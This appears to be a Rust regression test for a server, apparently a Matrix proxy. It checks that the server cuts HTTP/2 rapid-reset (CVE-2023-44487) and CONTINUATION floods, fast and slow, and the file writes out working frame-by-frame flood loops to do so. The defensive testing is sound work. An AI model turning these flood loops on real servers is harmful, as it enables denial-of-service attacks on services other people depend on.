//! HTTP/2 floods written frame by frame: rapid reset (CVE-2023-44487: streams opened and
//! cancelled at once, so they never count against the stream limit) and CONTINUATION (a header
//! block that never ends, fast or slow).

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use myelin_e2e::hostile::{Tally, figure, h2, size};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

use crate::scenario::{Scenario, serial};

/// Reads the server's frames until the connection ends; counts GOAWAYs by error code.
async fn server_frames<R: AsyncRead + Unpin>(mut rd: R, tally: Arc<Tally>) {
    let mut header = [0u8; 9];
    loop {
        if rd.read_exact(&mut header).await.is_err() {
            break;
        }
        let len =
            (usize::from(header[0]) << 16) | (usize::from(header[1]) << 8) | usize::from(header[2]);
        let mut payload = vec![0u8; len];
        if rd.read_exact(&mut payload).await.is_err() {
            break;
        }
        match header[3] {
            h2::GOAWAY if payload.len() >= 8 => {
                let code = u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
                tally.add(&format!("GOAWAY code {code:#x}"), 1);
            }
            h2::HEADERS => tally.add("responses", 1),
            h2::RST_STREAM => tally.add("RST_STREAM from server", 1),
            _ => {}
        }
    }
    tally.add("connections closed by server", 1);
}

#[test]
fn h2_rapid_reset_flood_is_cut_and_costs_the_upstream_little() {
    let _serial = serial();
    let duration = size(Duration::from_secs(4), Duration::from_secs(30));
    let mut s = Scenario::start(
        "h2-rapid-reset",
        "h2_max_resets = 100\nmax_connections = 20000\n",
    );
    s.measure_quiet();
    let before = s.up.requests();
    let tally = Arc::new(Tally::default());
    let stop = Arc::new(AtomicBool::new(false));
    let client = s.f.h2_client();
    let addr = s.addr;
    let mut set = JoinSet::new();
    let _guard = s.rt.enter();
    // two attackers: one sends each HEADERS + RST_STREAM pair in a write of its own (the
    // streams reach the handler before they are cancelled), one in batches of 100
    for batch in [1usize, 100] {
        let (tally, stop, client) = (tally.clone(), stop.clone(), client.clone());
        set.spawn(async move {
            let block = h2::get_block("example.test", "/_matrix/client/versions");
            while !stop.load(Ordering::Relaxed) {
                let Ok(tls) = client.connect(addr, "example.test").await else {
                    tally.add("connect failed", 1);
                    tokio::time::sleep(Duration::from_millis(50)).await;
                    continue;
                };
                tally.add("connections", 1);
                let (rd, mut wr) = tokio::io::split(tls);
                let reader = tokio::spawn(server_frames(rd, tally.clone()));
                if wr.write_all(&h2::preface()).await.is_err() {
                    continue;
                }
                let mut stream = 1u32;
                'conn: while !stop.load(Ordering::Relaxed) && !reader.is_finished() {
                    let mut out = Vec::new();
                    for _ in 0..batch {
                        out.extend(h2::frame(
                            h2::HEADERS,
                            h2::END_HEADERS | h2::END_STREAM,
                            stream,
                            &block,
                        ));
                        out.extend(h2::frame(h2::RST_STREAM, 0, stream, &8u32.to_be_bytes()));
                        stream += 2;
                    }
                    if wr.write_all(&out).await.is_err() {
                        break 'conn;
                    }
                    tally.add("streams reset", batch as u64);
                    // one pair at a time: paced so the handler sees each stream first
                    tokio::time::sleep(Duration::from_millis(if batch == 1 { 1 } else { 5 })).await;
                }
                drop(wr);
                let _ = tokio::time::timeout(Duration::from_secs(5), reader).await;
            }
        });
    }
    drop(_guard);
    let started = Instant::now();
    std::thread::sleep(Duration::from_millis(300));
    let comparison = s.measure_attack(5);
    std::thread::sleep(duration.saturating_sub(started.elapsed()));
    stop.store(true, Ordering::Relaxed);
    s.rt.block_on(async { while set.join_next().await.is_some() {} });
    let counts = tally.counts.lock().unwrap().clone();
    let upstream = s.up.requests() - before;
    let reset = tally.get("streams reset");
    figure(s.name, "attack", format!("{counts:?}"));
    figure(s.name, "streams opened and reset", reset);
    figure(
        s.name,
        "requests that reached the upstream (attack + well-behaved)",
        upstream,
    );
    let conns = tally.get("connections");
    let cut = tally.get("connections closed by server");
    assert!(
        conns >= 2 && cut + 2 >= conns,
        "the server cut the attacking connections: {counts:?}"
    );
    assert!(
        tally.get("GOAWAY code 0xb") > 0,
        "the server said ENHANCE_YOUR_CALM: {counts:?}"
    );
    // each connection is cut after at most ~h2_max_resets streams it cancelled, so per connection
    // the attack costs the upstream at most that many requests
    let well_behaved = 3 * 330 + 3 * 330 + 10;
    assert!(
        upstream <= conns * 120 + well_behaved as u64,
        "{upstream} requests reached the upstream from {conns} attack connections"
    );
    s.finish(&comparison, size(100, 400));
}

#[test]
fn h2_continuation_floods_fast_or_slow_are_cut() {
    let _serial = serial();
    let timeout = size(Duration::from_secs(3), Duration::from_secs(30));
    let mut s = Scenario::start(
        "h2-continuation",
        &format!(
            "header_read_timeout = \"{}s\"\nmax_connections = 20000\n",
            timeout.as_secs()
        ),
    );
    s.measure_quiet();
    let tally = Arc::new(Tally::default());
    let stop = Arc::new(AtomicBool::new(false));
    let client = s.f.h2_client();
    let addr = s.addr;
    let mut set = JoinSet::new();
    let _guard = s.rt.enter();
    // fast: CONTINUATION frames of 16 KiB of headers as fast as the server reads them (cut by
    // the header list size and the CONTINUATION count of the h2 crate);
    // slow: a small CONTINUATION frame every quarter of header_read_timeout, never END_HEADERS
    // (too few frames for any count: cut by the time the header block has been open)
    for (label, frame_size, pace) in [
        ("fast", 16_000usize, Duration::ZERO),
        ("slow", 1, timeout / 4),
    ] {
        for _ in 0..2 {
            let (tally, stop, client) = (tally.clone(), stop.clone(), client.clone());
            set.spawn(async move {
                while !stop.load(Ordering::Relaxed) {
                    let Ok(tls) = client.connect(addr, "example.test").await else {
                        tokio::time::sleep(Duration::from_millis(50)).await;
                        continue;
                    };
                    let (mut rd, mut wr) = tokio::io::split(tls);
                    let started = Instant::now();
                    let mut first = h2::preface();
                    first.extend(h2::frame(
                        h2::HEADERS,
                        h2::END_STREAM,
                        1,
                        &h2::get_block("example.test", "/_matrix/client/versions"),
                    ));
                    if wr.write_all(&first).await.is_err() {
                        continue;
                    }
                    let mut fields = Vec::new();
                    let mut i = 0u64;
                    while fields.len() < frame_size {
                        fields.extend(h2::literal(&format!("x-{i}"), "flood"));
                        i += 1;
                    }
                    let writer = async {
                        let mut sent = 0u64;
                        loop {
                            let f = h2::frame(h2::CONTINUATION, 0, 1, &fields);
                            if wr.write_all(&f).await.is_err() {
                                return sent;
                            }
                            sent += f.len() as u64;
                            if !pace.is_zero() {
                                tokio::time::sleep(pace).await;
                            }
                            // far beyond any header list limit: now the server must close; more
                            // would only measure the attacker's own CPU (kernel buffers take MiBs)
                            if sent > 160 << 10 {
                                std::future::pending::<()>().await;
                            }
                        }
                    };
                    let closed = async {
                        let mut buf = vec![0u8; 16 << 10];
                        loop {
                            match rd.read(&mut buf).await {
                                Ok(0) | Err(_) => return,
                                Ok(_) => {}
                            }
                        }
                    };
                    tokio::pin!(closed);
                    let sent = tokio::select! {
                        sent = writer => {
                            // the writer failed: the server closed; wait for the read side
                            let _ = tokio::time::timeout(Duration::from_secs(5), &mut closed).await;
                            sent
                        }
                        _ = tokio::time::timeout(Duration::from_secs(60), &mut closed) => 0,
                    };
                    let took = started.elapsed();
                    tally.add(&format!("{label}: connections cut"), 1);
                    // a new connection now and then, not a handshake flood
                    tokio::time::sleep(Duration::from_millis(200)).await;
                    let ms = took.as_millis() as u64;
                    let mut counts = tally.counts.lock().unwrap();
                    let max = counts
                        .entry(format!("{label}: slowest cut ms"))
                        .or_default();
                    *max = (*max).max(ms);
                    // what the client could write before the server closed (kernel socket buffers included)
                    let bytes = counts
                        .entry(format!("{label}: most bytes written before the cut"))
                        .or_default();
                    *bytes = (*bytes).max(sent);
                }
            });
        }
    }
    drop(_guard);
    let started = Instant::now();
    std::thread::sleep(Duration::from_millis(300));
    let comparison = s.measure_attack(5);
    std::thread::sleep((timeout + Duration::from_secs(1)).saturating_sub(started.elapsed()));
    stop.store(true, Ordering::Relaxed);
    s.rt.block_on(async { while set.join_next().await.is_some() {} });
    let counts = tally.counts.lock().unwrap().clone();
    figure(s.name, "attack", format!("{counts:?}"));
    assert!(tally.get("fast: connections cut") >= 2, "{counts:?}");
    assert!(tally.get("slow: connections cut") >= 2, "{counts:?}");
    assert!(
        tally.get("fast: slowest cut ms") < 3000,
        "a fast flood is cut by the header list size, at once: {counts:?}"
    );
    let slow = Duration::from_millis(tally.get("slow: slowest cut ms"));
    assert!(
        slow >= timeout - Duration::from_millis(200) && slow <= timeout + Duration::from_secs(3),
        "a slow header block is cut at header_read_timeout ({timeout:?}), not after {slow:?}: {counts:?}"
    );
    s.finish(&comparison, size(100, 400));
}
